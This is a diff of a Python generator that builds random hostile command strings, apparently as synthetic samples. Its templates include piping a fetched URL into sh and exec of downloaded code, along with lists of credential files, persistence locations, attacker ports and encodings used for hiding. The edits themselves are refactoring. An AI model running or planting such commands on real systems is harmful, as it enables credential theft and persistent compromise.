@@ -10,20 +10,23 @@ import base64
 import codecs
 import random
 import zlib
+from typing import Any
 
-STEMS = (
+from wordlist import words
+
+STEMS = words(
     "cloud data static cdn assets mirror update pkg repo sync node edge core metric stat log relay"
     " api img files store share paste drop beta dev ops build ci mail web app svc game media photo"
     " news blog shop pay bank crypto coin wallet vpn proxy dns time home office lab team project"
-).split()
-WORDS = (
+)
+WORDS = words(
     "run init setup agent worker helper loader task job report result cache backup config service"
     " session token key model weights train eval daemon launch start stage update patch fix check"
     " probe main index install boot client server payload test demo data input output monitor"
-).split()
-ENDINGS = "com net org io dev xyz top site online info co ru cn de fr nl br in me app cloud".split()
-USERS = "root admin ubuntu ec2-user jenkins deploy user dev alice bob www-data git svc".split()
-TEXT = "sh bash py pl txt bin elf php so dat tar.gz zip exe ps1 js conf".split()
+)
+ENDINGS = words("com net org io dev xyz top site online info co ru cn de fr nl br in me app cloud")
+USERS = words("root admin ubuntu ec2-user jenkins deploy user dev alice bob www-data git svc")
+TEXT = words("sh bash py pl txt bin elf php so dat tar.gz zip exe ps1 js conf")
 
 SHELL = """
 curl -s {url} | sh
@@ -172,19 +175,19 @@ __import__('urllib.request', fromlist=['x']).urlopen('{url}').read()
 globals()['__builtins__'].exec({code!r})
 """
 
-SECRETS = (
+SECRETS = words(
     "/etc/passwd /etc/shadow ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc ~/.bash_history /etc/hosts"
     " /proc/self/environ ~/.kube/config ~/.docker/config.json /root/.ssh/id_ed25519 .env"
     " ~/.git-credentials C:/Windows/win.ini /var/run/secrets/token ~/.pypirc"
-).split()
-FOLDERS = "/tmp /var/tmp /dev/shm ~/.cache /opt /usr/local/bin . .. ~/.local/bin /srv".split()
-STARTUP = (
+)
+FOLDERS = words("/tmp /var/tmp /dev/shm ~/.cache /opt /usr/local/bin . .. ~/.local/bin /srv")
+STARTUP = words(
     "~/.bashrc ~/.profile ~/.zshrc sitecustomize.py usercustomize.py ~/.config/autostart/{w}.desktop"
     " /etc/cron.d/{w} ~/.ssh/authorized_keys /etc/ld.so.preload"
     " /usr/lib/python3/dist-packages/{w}.pth ~/.local/lib/python3.11/site-packages/{w}.pth"
     " __init__.py ~/.vimrc setup.py conftest.py ~/.ipython/profile_default/startup/{w}.py"
     " C:/Users/Public/{w}.bat"
-).split()
+)
 
 
 def lines(table: str) -> list[str]:
@@ -208,7 +211,9 @@ class Arguments:
         if roll < 0.75:
             return rng.choice(WORDS) + rng.choice(["_", "", ""]) + rng.choice(STEMS)
         letters = "abcdefghijklmnopqrstuvwxyz"
-        return rng.choice(letters) + "".join(rng.choices(letters + "0123456789", k=rng.randrange(1, 8)))
+        return rng.choice(letters) + "".join(
+            rng.choices(letters + "0123456789", k=rng.randrange(1, 8))
+        )
 
     def host(self) -> str:
         rng = self.rng
@@ -223,7 +228,9 @@ class Arguments:
         return ".".join(map(str, [first, *(self.rng.randrange(1, 255) for _ in range(3))]))
 
     def port(self) -> int:
-        return self.rng.choice([4444, 1337, 8080, 443, 80, 9001, 53, self.rng.randrange(1024, 65535)])
+        return self.rng.choice(
+            [4444, 1337, 8080, 443, 80, 9001, 53, self.rng.randrange(1024, 65535)]
+        )
 
     def url(self) -> str:
         rng = self.rng
@@ -248,7 +255,7 @@ class Arguments:
 
     def fill(self, template: str, depth: int = 0) -> str:
         rng = self.rng
-        values: dict[str, object] = {name: "" for name in ("shell", "code", "expr", "shell_plain")}
+        values: dict[str, object] = dict.fromkeys(("shell", "code", "expr", "shell_plain"), "")
         if depth < 2:
             values["shell"] = self.shell(depth + 1) if "{shell" in template else ""
             values["shell_plain"] = repr(values["shell"]).replace('"', "'")
@@ -296,9 +303,13 @@ class Arguments:
     def packed(self, text: str) -> bytes:
         """A text as an attacker hides it."""
         data = text.encode()
-        ways = [base64.b64encode, zlib.compress, lambda d: base64.b64encode(zlib.compress(d))]
+        ways: list[Any] = [
+            base64.b64encode,
+            zlib.compress,
+            lambda d: base64.b64encode(zlib.compress(d)),
+        ]
         ways += [base64.b85encode, base64.b32encode, lambda d: d.hex().encode()]
-        return self.rng.choice(ways)(data)
+        return bytes(self.rng.choice(ways)(data))
 
     def rot13(self, text: str) -> str:
         return codecs.encode(text, "rot13")
